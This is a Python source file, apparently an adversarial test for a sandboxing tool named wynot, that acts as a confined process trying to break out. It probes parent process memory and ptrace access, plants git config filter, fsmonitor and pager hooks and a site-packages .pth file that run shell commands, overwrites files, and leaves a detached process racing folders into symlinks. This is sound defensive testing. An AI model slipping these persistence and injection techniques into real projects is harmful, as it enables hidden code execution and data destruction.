"""A confined test that tries to get out: run as a program, by whatever command is under attack.

It changes nothing outside of the folder in ``ARENA``, which all folders of that run are in. What it
must not reach is in ``SENTINEL``; it may write to ``NOTES``. It leaves a process behind that has no
mark of the test, and that goes on swapping folders for links while wynot fills them.
"""

import ctypes
import os
import resource
import sys
import time
from contextlib import suppress
from pathlib import Path

ARENA, SENTINEL, NOTES, TOKEN = "ARENA", "SENTINEL", "NOTES", "ADVERSARY"
LOG = "attacks"
"""The file among the notes with a line for each attack."""
REACHED = "reached"
"""How a line of it begins that names something of wynot's own processes."""
_LONGEST_SECONDS = 120
_MAX_DEPTH = 4
_OWN = Path(__file__)
_PTRACE_SEIZE = 0x4206
_LIBRARY = ctypes.CDLL(None)


def attack() -> None:
    """Do all of it, but for what would undo something else: that comes another time."""
    arena, sentinel, notes = (Path(os.environ[name]) for name in (ARENA, SENTINEL, NOTES))
    log = notes / LOG
    with log.open("a") as file:
        file.write("attack\n")
    number = len(log.read_text().splitlines())
    with suppress(OSError):
        (sentinel / "direct").touch()
    with log.open("a") as file:
        file.writelines(f"{REACHED} {each}\n" for each in _taken_over())
    _leave_a_process(sentinel, os.environ[TOKEN])
    kinds = [_overwrite, _plant, _plant, _link]
    for place in _reachable(arena):
        with suppress(OSError):
            kinds[number % len(kinds)](place, sentinel)
    with suppress(OSError):
        Path("project-pwned").touch()


def _taken_over() -> "list[str]":
    """Return what is open to it of the processes that it was started by, which are not confined."""
    found = []
    pid = os.getppid()
    while pid > 1:
        process = Path("/proc", str(pid))
        # The number of the parent is the second word behind the name, which may have any letters.
        above = int((process / "stat").read_text().rpartition(")")[2].split()[1])
        if os.getsid(pid) != os.getsid(0):  # else it is of this test, and confined, too
            with suppress(OSError):
                os.close(os.open(process / "mem", os.O_RDWR))
                found.append(f"the memory of {pid}")
            with suppress(OSError):
                found += [str(each.readlink()) for each in (process / "fd").iterdir()]
            if _LIBRARY.ptrace(_PTRACE_SEIZE, pid, 0, 0) == 0:
                found.append(f"each step of {pid}")
        pid = above
    return found


def _reachable(arena: Path) -> "list[Path]":
    """Return all that is in the folders around this one and that of temporary files."""
    found: dict[Path, None] = {}
    for start in (Path.cwd(), Path(os.environ["TMPDIR"])):
        above = [each for each in (start, *start.parents) if each.is_relative_to(arena)]
        for top in above[:_MAX_DEPTH]:
            if top == arena:
                continue
            for folder, folders, files in os.walk(top):
                for name in (*folders, *files):
                    found[Path(folder, name)] = None
    return [*found]


def _plant(place: Path, sentinel: Path) -> None:
    """Have programs that wynot runs later do something, if they read what is here."""
    harm = f"touch {sentinel}/{place.name}-ran 2> /dev/null"
    if place.name == "config":
        with place.open("a") as file:
            file.write(f'[filter "x"]\n\tsmudge = "{harm}; cat"\n\tclean = "{harm}; cat"\n')
            file.write(f'[core]\n\tfsmonitor = "{harm}"\n\tpager = "{harm}"\n')
        (place.parent / "info").mkdir(exist_ok=True)
        (place.parent / "info" / "attributes").write_text("* filter=x\n")
    elif place.name == "site-packages":
        (place / "evil.pth").write_text(f"import os; os.system({harm!r})\n")


def _link(place: Path, sentinel: Path) -> None:
    """Put a link in its place, to something of the same name if there is any."""
    if place.is_symlink() or not place.exists():
        return
    target = sentinel / place.name
    place.rename(place.with_name(f"{place.name}.gone"))
    place.symlink_to(target if target.exists() else sentinel)


def _overwrite(place: Path, _sentinel: Path) -> None:
    if place.is_file() and not place.is_symlink():
        place.write_bytes(b"666\n")


def _leave_a_process(sentinel: Path, token: str) -> None:
    """Start a process that nothing connects to this test, and wait until it is one."""
    ready, done = os.pipe()
    if os.fork():
        os.close(done)
        os.read(ready, 1)
        os.close(ready)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    with suppress(AttributeError, ValueError, OSError):
        resource.prlimit(0, 10, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    os.set_inheritable(done, True)  # noqa: FBT003
    words = [sys.executable, "-I", "-S", str(_OWN), "stay", str(done), str(sentinel)]
    os.execve(sys.executable, [*words, str(Path.cwd()), token], {})  # noqa: S606


def _stay(done: int, sentinel: Path, case: Path) -> None:
    """Swap folders of the case for links, until somebody ends this."""
    os.write(done, b"1")
    os.closerange(0, 64)
    end = time.monotonic() + _LONGEST_SECONDS
    while time.monotonic() < end:
        with suppress(OSError):
            for place in case.iterdir():
                with suppress(OSError):
                    place.rename(case.parent / f"{place.name}.away")
                    place.symlink_to(sentinel)


if __name__ == "__main__":
    if sys.argv[1] == "stay":
        _stay(int(sys.argv[2]), Path(sys.argv[3]), Path(sys.argv[4]))
    else:
        is_failing = any(b"NEEDLE" in Path(each).read_bytes() for each in sys.argv[1:])
        attack()
        sys.exit(3 if is_failing else 0)
